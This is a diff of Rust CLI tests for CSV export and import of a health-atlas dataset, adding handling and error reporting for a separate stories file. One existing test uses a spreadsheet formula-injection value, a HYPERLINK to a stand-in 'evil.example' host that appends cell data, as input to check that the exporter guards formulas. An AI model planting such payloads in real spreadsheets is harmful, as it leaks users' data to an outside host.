@@ -109,18 +109,50 @@ fn validate_names_file_path_and_expectation_and_exits_1() {
 #[test]
 fn json_to_csv_to_json_round_trips_through_the_cli() {
     let csv = scratch("events.csv");
+    let stories = scratch("stories.csv");
     let json = scratch("events.json");
-    assert_eq!(
-        atlas_data(&["export-csv", "data/events.json", "-o", csv.to_str().unwrap()])
-            .status
-            .code(),
-        Some(0)
-    );
-    let imported = atlas_data(&["import-csv", csv.to_str().unwrap(), "-o", json.to_str().unwrap()]);
+    let (csv, stories, json) = (csv.to_str().unwrap(), stories.to_str().unwrap(), json.to_str().unwrap());
+    // The shipped dataset has stories: exporting without a file for them would lose them.
+    let refused = atlas_data(&["export-csv", "data/events.json", "-o", csv]);
+    assert_eq!(refused.status.code(), Some(2));
+    assert!(text(&refused.stderr).contains("give --stories STORIES.csv to keep them"));
+    let exported = atlas_data(&["export-csv", "data/events.json", "-o", csv, "--stories", stories]);
+    assert_eq!(exported.status.code(), Some(0), "{}", text(&exported.stderr));
+    let imported = atlas_data(&["import-csv", csv, "--stories", stories, "-o", json]);
     assert_eq!(imported.status.code(), Some(0), "{}", text(&imported.stderr));
     let original = health_atlas_dataset::embedded_dataset().unwrap();
-    let back = health_atlas_model::parse_dataset(&std::fs::read_to_string(&json).unwrap()).unwrap();
+    assert!(!original.stories.is_empty());
+    let back = health_atlas_model::parse_dataset(&std::fs::read_to_string(json).unwrap()).unwrap();
     assert_eq!(back.events, original.events);
+    assert_eq!(back.stories, original.stories);
+}
+
+#[test]
+fn a_story_step_naming_an_unknown_event_is_told_as_its_row() {
+    let csv = scratch("events-for-stories.csv");
+    let stories = scratch("bad-stories.csv");
+    let json = scratch("never-written.json");
+    let (csv, stories, json) = (csv.to_str().unwrap(), stories.to_str().unwrap(), json.to_str().unwrap());
+    let exported = atlas_data(&["export-csv", "data/events.json", "-o", csv, "--stories", stories]);
+    assert_eq!(exported.status.code(), Some(0), "{}", text(&exported.stderr));
+    let written = std::fs::read_to_string(stories).unwrap();
+    std::fs::write(stories, written.replacen("tbhc-2023-signings", "tbhc-2023-sigings", 1)).unwrap();
+    let imported = atlas_data(&["import-csv", csv, "--stories", stories, "-o", json]);
+    assert_eq!(imported.status.code(), Some(1));
+    let stderr = text(&imported.stderr);
+    // The first step that names it, counting one row per step after the header.
+    let dataset = health_atlas_dataset::embedded_dataset().unwrap();
+    let steps: Vec<_> = dataset.stories.iter().flat_map(|story| &story.steps).collect();
+    let row = steps
+        .iter()
+        .position(|step| step.events.iter().any(|id| id == "tbhc-2023-signings"))
+        .unwrap()
+        + 2;
+    assert!(stderr.contains(&format!("{stories}: row {row}: stories[")), "{stderr}");
+    assert!(
+        stderr.contains("refers to \"tbhc-2023-sigings\", which is not an event id"),
+        "{stderr}"
+    );
 }
 
 #[test]
@@ -130,6 +162,7 @@ fn export_csv_guards_formulas_and_import_csv_reads_them_back() {
     let back = scratch("formula-back.json");
     let mut dataset = health_atlas_dataset::embedded_dataset().unwrap();
     dataset.events.truncate(1);
+    dataset.stories.clear(); // they name events cut above
     dataset.events[0].title.en = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into();
     dataset.events[0].note = "@SUM(A1:A9)".into();
     std::fs::write(&json, serde_json::to_string(&dataset).unwrap()).unwrap();
